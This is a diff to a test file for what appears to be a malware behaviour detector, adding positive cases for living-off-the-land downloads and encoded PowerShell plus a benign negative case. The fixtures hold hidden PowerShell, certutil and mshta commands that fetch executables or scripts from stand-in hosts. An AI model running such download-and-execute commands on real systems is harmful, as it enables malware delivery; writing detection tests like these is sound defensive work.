@@ -176,6 +176,12 @@ POSITIVE = [
     ("downloads_executable", [{"type": "ftp", "command": "RETR", "file": "stage2.exe", "dst": "203.0.113.1:21"}],
      CTX),
     ("script_host_downloads_executable", [payload("http://cdn.example/docs/dogovr2208.exe")], WSH),
+    ("lolbin_download", [wex("powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe',"
+                             "$env:TEMP+'\\a.exe')\"", image=r"C:\windows\system32\WindowsPowershell\v1.0\powershell.exe")],
+     WSH),
+    ("lolbin_download", [wex("certutil -urlcache -split -f http://x.example/p.txt C:\\p.exe")], WINDOWS),
+    ("lolbin_download", [wex("mshta http://x.example/a.hta", image=r"C:\windows\system32\mshta.exe")], WSH),
+    ("powershell_encoded_command", [wex("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")], WSH),
     ("self_copy", [api("CopyFileA", r"Z:\work\x.exe", r"C:\users\user\AppData\Roaming\svchost32.exe", "0x0")],
      WINDOWS),
     ("self_copy", [ex("/bin/cp", ["cp", "/work/s.sh", f"{H}/.local/bin/s"])], CTX),
@@ -353,6 +359,9 @@ NEGATIVE = [
                                          wex("ping -n 2 127.0.0.1", image=r"C:\windows\system32\ping.exe")],
      WINDOWS),
     ("mouse hooks", [api("SetWindowsHookExA", "0xe", "0x1", "0x0", "0x0")], WINDOWS),
+    ("PowerShell and certutil without a download", [wex("powershell -c Get-Date"), wex("certutil -hashfile a.exe"),
+                                                    wex("msiexec /i C:\\setup.msi /qn")], WINDOWS,
+     {"lolbin_download", "powershell_encoded_command"}),
     ("a process created normally, then written", [
         api("CreateProcessA", r"C:\x.exe", "0x0", "0x0", "0x0", "0x0", "0x0"),
         api("WriteProcessMemory", "0x58", "0x1", "0x2", "0x1", "0x0")], WINDOWS, {"process_hollowing"}),
